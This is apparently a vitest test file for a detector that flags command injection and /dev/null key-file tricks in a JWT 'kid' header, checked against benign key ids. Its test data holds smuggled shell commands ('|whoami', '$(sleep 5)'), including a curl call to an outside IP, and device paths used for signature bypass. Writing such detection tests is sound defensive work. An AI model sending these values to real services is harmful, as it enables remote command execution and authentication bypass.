import { describe, expect, it } from 'vitest'
import { kidInjection } from './jwt.ts'

const rule = (kid: unknown): string | null => kidInjection({ alg: 'HS256', typ: 'JWT', kid })?.rule ?? null

describe('what a JWT key id cannot hold as the name of a key', () => {
  it('reads a shell separator and a command name as a command, whatever its arguments', () => {
    for (const kid of ['/dev/null; echo 9e15f1b9', 'key1|whoami', 'k1 && id', 'x`id`', '$(sleep 5)', 'k1\ncurl http://203.0.113.7/x']) expect(rule(kid), kid).toBe('waf.rce.jwt-kid-command')
  })

  it('reads a device file as the whole key id as a key whose content the attacker knows', () => {
    for (const kid of ['/dev/null', '/dev/zero']) expect(rule(kid), kid).toBe('waf.auth-bypass.jwt-kid-file')
  })

  it('leaves the key ids issuers write: thumbprints, UUIDs, names, files, URLs, a separator before no command', () => {
    for (const kid of ['ffe1d0f41cbed686', 'c1f7b0a2-5d4e-4b8a-9f3c-2e6d8a1b7c90', 'key-2024-01', 'keys/2024-01.pem', 'https://keys.example/jwks/k1', 'tenant;key1', 'a|b', 'key|b64', '/dev/', '/devices/null', 'NjVBRjY5MDlCMUIwNzU4RTA2QzZFMDQ4QzQ2MDAyQjVDNjk1RTM2Qg', 42]) expect(rule(kid), String(kid)).toBeNull()
  })
})
